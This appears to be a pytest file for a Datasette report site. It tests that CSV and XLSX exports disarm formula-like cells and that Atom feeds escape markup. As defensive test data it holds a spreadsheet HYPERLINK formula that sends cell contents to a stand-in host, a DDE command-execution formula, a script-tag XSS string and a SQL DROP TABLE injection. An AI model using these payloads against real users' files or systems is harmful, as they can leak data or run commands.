"""Files for spreadsheets and feeds: whatever a report says is text in them."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from datasette.app import Datasette
from invented_extractions import make_extraction
from served_sites import publish

from datasette_config.exports import disarm, write_table
from datasette_config.feeds import write_feed

ServeSite = Callable[..., Datasette]

ATOM = "{http://www.w3.org/2005/Atom}"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = (
    '=HYPERLINK("https://verzonnen.example/?"&A1;"klik")',
    "+SUM(1)*cmd|' /C calc'!A0",
    "-2+3 dijken; maak ze hoger.",
    "@SUM(dijk)",
    "<script>alert('dijk')</script> & ]]> <b>vet</b>",
    "'; DROP TABLE statements; -- dijk",
    '"dijk", met "aanhalingstekens"\nen een regeleinde',
    "﻿=1+1 dijk \u202e \x0b\x01 einde",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a site of a report that is full of formulas and markup."""
    return publish(tmp_path_factory.mktemp("hostile"), make_extraction(*HOSTILE, name="=1+1", publisher="@Verzonnen"))


@pytest.fixture
def hostile(hostile_dir: Path, serve_site: ServeSite) -> Datasette:
    """Return that site, served."""
    return serve_site(hostile_dir)


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1", "'=1"), ("+a", "'+a"), ("-a", "'-a"), ("@a", "'@a"), (" =1", "' =1"), ("\t1", "'\t1"), ("＝1", "'＝1"),
     ("-1.5", "-1.5"), ("+3", "+3"), ("1e-5", "1e-5"), ("-1+1", "'-1+1"), ("", ""), ("a=1", "a=1"), ("\r=", "'\r="),
     ("– een streep", "– een streep")],
)  # fmt: skip
def test_a_cell_that_looks_like_a_formula_is_disarmed(cell: str, written: str) -> None:
    """Numbers and everything else stay as they are."""
    assert disarm(cell) == written


@pytest.mark.parametrize(
    "path",
    ["/api/search.csv?kind=finding&kind=recommendation", "/kb/statements.csv", "/kb/statements.csv?_stream=1&_dl=1",
     "/kb.csv?sql=select+text,+page+from+statements", "/kb/statements_full.csv?_size=max",
     "/kb/reports.csv?_labels=on"],
)  # fmt: skip
async def test_no_cell_of_a_csv_file_is_a_formula(hostile: Datasette, path: str) -> None:
    """Ours and Datasette's, downloaded, streamed and from SQL; the words are all there."""
    answer = await hostile.client.get(path)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith(("text/csv", "text/plain"))
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert len({len(row) for row in rows}) == 1
    assert not [cell for cell in cells if cell.lstrip("﻿ \t\r\n").startswith(("=", "+", "-", "@"))]
    if "reports" not in path:
        texts = {cell.removeprefix("'") for cell in cells}
        assert set(HOSTILE) <= {*texts, *cells}


async def test_a_cell_may_be_as_long_as_a_page(tmp_path: Path, serve_site: ServeSite) -> None:
    """Longer than Python's reader of CSV takes by itself."""
    long = "De dijk is lang. " * 10_000
    served = serve_site(publish(tmp_path, make_extraction(long)))
    answer = await served.client.get("/kb.csv?sql=select+text,'=1'+as+formula+from+statements")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [(row["text"], row["formula"]) for row in rows] == [(long, "'=1")]


async def test_an_export_is_in_the_order_that_was_chosen(tmp_path: Path, serve_site: ServeSite) -> None:
    """All of the first 2,000, from one search, in the order of the pages; the page links to it."""
    older = [f"De dijk, de dijk, de dijk nummer {number} is hoog." for number in range(130)]
    newer = [f"Bij het water ligt ook nog een lange dijk {number} van klei." for number in range(70)]
    site_dir = publish(
        tmp_path,
        make_extraction(*older, name="Oud", published_date="2001"),
        make_extraction(*newer, name="Nieuw", published_date="2024"),
    )
    served = serve_site(site_dir)
    for sort in ("relevance", "date"):
        address = f"q=dijk&mode=lexical&sort={sort}&fold=false"
        pages = [
            (await served.client.get(f"/api/search?{address}&limit=100&offset={offset}")).json()["results"]
            for offset in (0, 100)
        ]
        rows = list(csv.DictReader(io.StringIO((await served.client.get(f"/api/search.csv?{address}")).text)))
        assert [row["text"] for row in rows] == [result["text"] for page in pages for result in page]
        assert len(rows) == 200
    assert rows[0]["report_title"] == "Nieuw"
    workbook = await served.client.get("/api/search.xlsx?q=dijk&mode=lexical&sort=date&fold=false")
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as parts:
        assert rows[0]["text"] in parts.read("xl/worksheets/sheet1.xml").decode()[:4000]
    page = (await served.client.get("/search?q=dijk&sort=date")).text
    assert 'href="/api/search.csv?q=dijk&amp;sort=date"' in page
    assert (await served.client.get("/api/search.csv?q=dijk&sort=upwards")).status_code == 422


async def test_a_workbook_has_text_and_numbers_only(hostile: Datasette) -> None:
    """No formula, no link; two sheets; a table gives all that fits its filters."""
    for path, count in (
        ("/api/search.xlsx?kind=finding&kind=recommendation", 8),
        ("/kb/statements.xlsx?_size=2", 8),
        ("/kb/statements.xlsx?kind=finding", 4),
        ("/kb.xlsx?sql=select+*+from+statements+limit+3", 3),
    ):
        answer = await hostile.client.get(path)
        assert answer.status_code == 200, answer.text[:500]
        assert answer.headers["content-disposition"].endswith('.xlsx"')
        with zipfile.ZipFile(io.BytesIO(answer.content)) as parts:
            sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
            assert not [name for name in parts.namelist() if "rels" in name and "worksheets" in name]
        assert not list(sheet.iter(f"{SHEET}f")) and not list(sheet.iter(f"{SHEET}hyperlink"))
        assert len(list(sheet.iter(f"{SHEET}row"))) == count + 1
        texts = {"".join(cell.itertext()) for cell in sheet.iter(f"{SHEET}c") if cell.get("t") == "inlineStr"}
        assert HOSTILE[0] in texts


def test_values_that_a_workbook_cannot_hold_are_written_as_text() -> None:
    """Large integers keep their digits, long texts are cut and say so, bytes are counted, nothing fails."""
    rows = [[10**16, "x" * 40_000, b"\x00\x01", None, float("nan"), True, "\x00\x1f￾", "https://verzonnen.example"]]
    written = write_table(list("abcdefgh"), rows, about={"From": "=1+1"})
    with zipfile.ZipFile(io.BytesIO(written)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        ElementTree.fromstring(sheet)
    assert "10000000000000000" in sheet and "(cut: a cell holds no more)" in sheet and "(2 bytes)" in sheet


async def read_feed(served: Datasette, path: str) -> ElementTree.Element:
    """Return a feed that must be whole."""
    answer = await served.client.get(path)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/atom+xml")
    feed = ElementTree.fromstring(answer.content)
    for element in (feed, *feed.findall(f"{ATOM}entry")):
        for name in ("id", "title", "updated"):
            assert element.findtext(ATOM + name)
    return feed


async def test_a_feed_gives_hostile_text_as_text(hostile: Datasette) -> None:
    """Markup is escaped, what XML cannot hold is replaced, and nothing is marked as HTML."""
    feed = await read_feed(hostile, "/api/feed")
    contents = [entry.find(f"{ATOM}content") for entry in feed.findall(f"{ATOM}entry")]
    assert {content.get("type") for content in contents if content is not None} == {"text"}
    texts = "\n".join(content.text or "" for content in contents if content is not None)
    assert HOSTILE[4] in texts and "�� einde" in texts
    assert len(contents) == len(HOSTILE)


async def test_the_feed_of_a_question_is_an_alert(served: Datasette, tmp_path: Path, serve_site: ServeSite) -> None:
    """Words, meaning and filters choose; entries keep their ids and are told apart; each leads to its page."""
    feed = await read_feed(served, "/api/feed?q=beloften+aan+gedupeerden&mode=semantic&kind=recommendation&limit=5")
    assert "beloften aan gedupeerden" in (feed.findtext(f"{ATOM}title") or "")
    entries = feed.findall(f"{ATOM}entry")
    assert {entry.find(f"{ATOM}category").get("term") for entry in entries} == {"recommendation"}  # type: ignore[union-attr]
    for entry in entries:
        link = entry.find(f"{ATOM}link")
        assert link is not None
        assert (await served.client.get(str(link.get("href")).replace("http://localhost", ""))).status_code == 200
    english = await read_feed(served, "/api/feed?language=en")
    ids = [entry.findtext(f"{ATOM}id") for entry in english.findall(f"{ATOM}entry")]
    assert len(set(ids)) == 3 and all(str(entry_id).startswith("urn:uuid:") for entry_id in ids)
    assert english.findtext(f"{ATOM}id") != feed.findtext(f"{ATOM}id")
    assert [
        e.findtext(f"{ATOM}id") for e in (await read_feed(served, "/api/feed?language=en")).iter(f"{ATOM}entry")
    ] == ids
    counts = [
        len((await read_feed(served, f"/api/feed?q=water+dike&closeness={closeness}")).findall(f"{ATOM}entry"))
        for closeness in (0, 0.6, 1)
    ]
    assert counts[0] > counts[1] >= counts[2] == 1
    assert not (await read_feed(served, "/api/feed?publisher=niemand")).findall(f"{ATOM}entry")


def test_a_feed_without_entries_says_when_the_site_was_built() -> None:
    """Atom demands a time."""
    written = write_feed([], question="", filters={}, base="http://a", address="http://a/x\x00", built_at="2024-03-01")
    assert ElementTree.fromstring(written).findtext(f"{ATOM}updated") == "2024-03-01"


async def test_only_answers_in_csv_are_changed(hostile: Datasette) -> None:
    """JSON, the place of the exact text, and errors are passed on as they are."""
    rows: Any = (await hostile.client.get("/kb/statements.json?_shape=array&_size=max")).json()
    assert {row["text"] for row in rows} == set(HOSTILE)
    assert (await hostile.client.get("/kb/nothing.csv")).status_code == 404
    assert (await hostile.client.get("/kb.csv?sql=delete+from+statements")).status_code == 400
